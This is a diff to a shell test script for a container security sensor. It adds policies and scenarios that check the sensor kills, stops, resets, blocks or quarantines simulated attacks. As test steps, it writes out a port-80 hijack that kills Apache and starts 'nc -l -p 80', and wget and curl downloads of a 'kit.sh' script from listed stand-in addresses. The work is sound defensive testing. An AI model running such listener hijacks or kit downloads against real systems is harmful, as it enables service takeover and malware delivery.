@@ -8,7 +8,7 @@ set -u
 docker_begin
 lab_outside a
 lab_engine_start a
-lab_image a pg-many pg-web
+lab_image a pg-many pg-web pg-db
 d network create --subnet 172.31.0.0/16 front >/dev/null
 scenario_config s
 cat >>"$LAB_DIR/sensor-s/config.yaml" <<'END'
@@ -18,6 +18,14 @@ policy:
     pg-many/e-kill: { mode: enforce }
     pg-web/e-exec: { mode: enforce }
     pg-web/e-shut: { mode: enforce, on_failure: closed }
+    pg-web/S2-web: { mode: enforce }
+    pg-many/S4-web: { mode: enforce }
+    pg-many/S5-web: { mode: enforce }
+    pg-web/S6-web: { mode: enforce }
+    pg-db/S6-db: { mode: enforce }
+    pg-many/S7-app: { mode: enforce }
+    pg-web/S8-web: { mode: enforce }
+    pg-many/S8-boot: { mode: enforce }
 evidence: { freeze: true }
 actions:
   workloads:
@@ -25,8 +33,27 @@ actions:
     pg-many/e-kill: { listener.new: [evidence, kill], process.new: alert }
     pg-web/e-exec: { process.new: [refuse, evidence] }
     pg-web/e-shut: { process.new: refuse }
+    pg-many/e-killc: { process.new: kill }
+    pg-web/S2-web: { config.drift: evidence }
+    pg-many/S4-web: { listener.squatted: stop }
+    pg-many/S5-web: { listener.protocol: reset }
+    pg-many/S7-app: { syscall.new: quarantine }
+    pg-web/S8-web: { intel.ip: block }
+    pg-many/S8-boot: { intel.file: quarantine }
+END
+scenario_feeds s
+# every packet to the listed address is counted where it would arrive
+lab_in outside nft -f - <<'END'
+table ip seen {
+	counter listed { }
+	chain input { type filter hook input priority 0; ip daddr 203.0.113.66 counter name listed; }
+}
 END
 sensor_start s "$(lab_socket a)"
+for c in S2 S4 S5 S6 S7 S8; do
+	case_load "$c"
+	case_prepare
+done
 case_id=e
 web pause
 client_of pausec "http://e-pause/"
@@ -37,7 +64,7 @@ client_of execc "http://e-exec/"
 web shut
 client_of shutc "http://e-shut/"
 sleep 2
-if until_true 60 learned_all "$(d ps -q | wc -l)"; then
+if until_true 90 learned_all "$(d ps -q | wc -l)"; then
 	pass "learning ends by itself, without a command"
 else
 	flunk "learning ends by itself, without a command" "$(still_learning)"
@@ -75,7 +102,7 @@ nc_is_gone() { ! d top e-kill -eo args | grep -q '^nc -l'; }
 ok "S10: it is gone" until_true 2 nc_is_gone
 ok "S10: what was learned goes on" in_ killc curl -s -m 2 -o /dev/null http://e-kill:3000/
 
-bg pause sh -c 'read p </var/run/apache2/apache2.pid; kill $p; sleep 0.7; nc -l -p 80'
+bg pause sh -c 'read p </var/run/apache2/apache2.pid; kill $p; for i in 1 2 3 4 5 6 7 8 9; do sleep 0.7; nc -l -p 80; done'
 ok "S3: the container is paused, the alert says so" until_true 5 acted e-pause listener.squatted "pause; evidence"
 is_paused() { [ "$(d inspect -f '{{.State.Status}}' "$1")" = paused ]; }
 ok "S3: the engine knows it as paused" is_paused e-pause
@@ -148,6 +175,51 @@ ok "S6: a stranger is refused" until_true 3 refused stranger "$(ip_of exec):80"
 ok "S6: a learned client is served" from_ execc "$(ip_of exec):80"
 ok "S8: a destination that was never learned is refused" refused exec "$(ip_of kill):3000"
 ok "S6: the map says reset" sh -c "$LAB_BUILD/pierglass --run $LAB_DIR/sensor-s/run map --json | jq -es '.[0].edges | any(.client == \"pg-many/e-stranger\" and .server == \"pg-web/e-exec\" and .verdict == \"reset\")'"
+serves() { sensor s map --json | jq -es --arg c "$1" --arg s "$2" --arg v "$3" '.[0].edges | any(.client == $c and .server == $s and .verdict == $v)' >/dev/null; }
+attack() { # CASE: as on the scorecard
+	case_load "$1"
+	case_attack >/dev/null 2>&1
+}
+ok "what only watches keeps its programs: kill is said to be left undone" in_ killc sh -c 'wget -q -O /dev/null http://e-kill:3000/'
+ok "and that is what the alert says" until_true 5 acted e-killc process.new "kill not done: * monitor mode"
+attack S6
+ok "S6: a container of another stack reaches neither" until_true 5 serves pg-many/S6-stranger pg-web/S6-web reset
+ok "S6: and not the database" until_true 5 serves pg-many/S6-stranger pg-db/S6-db reset
+ok "S6: the web server's client is served" from_ c "$(ip_of web):80"
+attack S2
+ok "S2: the edit is kept as evidence" until_true 5 acted S2-web config.drift evidence
+listens() { nsenter --net="/proc/$(d inspect -f '{{.State.Pid}}' "$(name_of web)")/ns/net" ss -Hltn | grep -q ":$1 "; }
+ok "S2: the new listener is there" until_true 5 listens 81
+ok "S2: nobody reaches it" refused c "$(ip_of web):81"
+ok "S2: the learned one serves" from_ c "$(ip_of web):80"
+attack S4
+ok "S4: the container is stopped, the alert says so" until_true 15 acted S4-web listener.squatted stop
+is_stopped() { [ "$(d inspect -f '{{.State.Running}}' "$1")" = false ]; }
+ok "S4: the engine knows it as stopped" is_stopped S4-web
+case_load S5
+protocol_changes() {
+	case_attack
+	acted S5-web listener.protocol "reset*"
+}
+ok "S5: the client is cut off, the alert says so" until_true 10 protocol_changes
+attack S7
+ok "S7: the application is in quarantine, the alert says so" until_true 5 acted S7-app syscall.new quarantine
+cut_off() { ! from_ "$@"; }
+ok "S7: its client does not reach it" cut_off c "$(ip_of app):3000"
+
+# ---- a kit from a listed address; a listed file (S8) -------------------------------------------------------------------------------
+case_load S8
+packets() { lab_in outside nft list counter ip seen listed | grep -o 'packets [0-9]*' | cut -d' ' -f2; }
+in_ web sh -c 'wget -q -T 2 -t 1 -O /tmp/kit.sh http://203.0.113.66:8088/kit.sh' >/dev/null 2>&1
+ok "S8: the download from a listed address does not come about" in_ web sh -c '! [ -s /tmp/kit.sh ]'
+ok "S8: the alert says block" until_true 5 acted S8-web intel.ip block
+ok "S8: not one packet left for it" test "$(packets)" = 0
+ok "S8: they are counted" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' status --json | jq -e '.counters.listed_packets_dropped > 0'"
+ok "S8: what is learned is reached" from_ boot 203.0.113.9:8088
+in_ boot curl -s -m 5 -o /tmp/kit.sh http://203.0.113.9:8088/kit.sh
+ok "S8: the listed file: its container is in quarantine" until_true 5 acted S8-boot intel.file quarantine
+ok "S8: which ends its reach" cut_off boot 203.0.113.9:8088
+ok "S8: the policy says why" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' policy show --json | jq -es '.[0].holds | any(.kind == \"quarantine\" and (.container | contains(\"S8-boot\")))'"
 [ -z "${SC_KEEP:-}" ] || { echo "# kept: $LAB_DIR"; sleep "$SC_KEEP"; }
 ok "evidence list fits its schema" sh -c "'$LAB_BUILD/pierglass' --run '$LAB_DIR/sensor-s/run' evidence list --json | python3 tests/golden/schema.py evidence"
 ok "manifest fits its schema" sh -c "python3 tests/golden/schema.py evidence-manifest <'$LAB_DIR/bundle/$id/manifest.json'"
